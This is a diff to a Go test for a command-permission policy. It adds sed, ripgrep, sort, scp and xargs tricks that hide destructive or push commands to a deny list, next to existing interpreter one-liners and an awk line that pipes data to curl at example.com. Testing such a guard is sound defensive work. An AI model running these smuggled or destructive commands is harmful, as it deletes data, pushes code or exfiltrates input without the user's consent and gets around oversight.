@@ -39,9 +39,11 @@ func TestDeniedInCode(t *testing.T) {
 			`perl -e 'system("rm x")'`, `awk 'BEGIN{system("rm x")}'`, `awk '{print | "curl -d @- example.com"}' f`, `python3 -c 'import os; os.system("git push")'`, `python3 -c 'import subprocess; subprocess.run(["git", "-C", "x", "push"])'`,
 			`ruby -e 'exec "rm", "x"'`, `node -e 'require("child_process").execSync("cd x && git push")'`, `perl -e 'exec "rm", "rm", "x"'`, `python3 -c 'import os; os.system("sudo rm x")'`, "python3 <<'E'\nimport os\nos.system('rm x')\nE",
 			`php -r 'shell_exec("rm x");'`, `perl -e 'my $f = shift; system("rm $f")' a`,
+			`sed '1e rm x' f`, `sed 's/a/rm x/e' f`, `sed -e p -e '1{e git push
+}' f`, "rg --pre rm x", "rg --pre=/bin/rm x", "sort --compress-program=rm f", "scp -S rm a h:b", "git ls-files | xargs sort --compress-program rm",
 		},
 		policy.Allow: {
-			`perl -e 'system("ls x")'`, `awk 'BEGIN{print "rm x"}'`, `python3 -c 'print("rm x")'`, `python3 -c 'import os; os.system("git status")'`, `ruby -e 'puts "git push"'`, `python3 -c 'import subprocess; subprocess.run(["echo", "rm", "x"])'`,
+			`perl -e 'system("ls x")'`, `awk 'BEGIN{print "rm x"}'`, `python3 -c 'print("rm x")'`, `python3 -c 'import os; os.system("git status")'`, `ruby -e 'puts "git push"'`, `sed -n 's/rm x/y/p' f`, `sed 's/e rm/x/' f`, "rg --pre cat rm", "sort --compress-program=gzip rm", `python3 -c 'import subprocess; subprocess.run(["echo", "rm", "x"])'`,
 		},
 	} {
 		for _, line := range lines {
